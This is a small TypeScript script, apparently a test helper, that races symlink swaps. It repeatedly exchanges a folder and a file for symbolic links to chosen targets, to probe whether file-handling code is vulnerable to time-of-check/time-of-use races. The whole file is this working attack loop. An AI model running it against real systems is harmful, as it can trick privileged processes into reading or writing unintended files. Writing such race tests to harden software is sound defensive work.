/**
 * An attacker: keeps exchanging a folder for a link to another one, and a file for a link, as fast as it can.
 * node link-swapper.ts <folder> <target folder> <target file>; ends when its input closes.
 */
import { mkdirSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const [, , folder = "", targetFolder = "", targetFile = ""] = process.argv;
const at = (name: string): string => join(folder, name);

mkdirSync(at("dir"), { recursive: true });
writeFileSync(at("dir/file"), "inside\n");
symlinkSync(targetFolder, at("dir.link"));
writeFileSync(at("file"), "inside\n");

let isOver = false;
process.stdin.on("end", () => (isOver = true)).resume();

function swapOften(): void {
  for (let count = 0; count < 500; count += 1) {
    renameSync(at("dir"), at("dir.real"));
    renameSync(at("dir.link"), at("dir"));
    renameSync(at("dir"), at("dir.link"));
    renameSync(at("dir.real"), at("dir"));
    symlinkSync(targetFile, at("file.link"));
    renameSync(at("file.link"), at("file"));
    unlinkSync(at("file"));
    writeFileSync(at("file"), "inside\n");
  }
  if (!isOver) setImmediate(swapOften);
}

process.stdout.write("swapping\n");
swapOften();
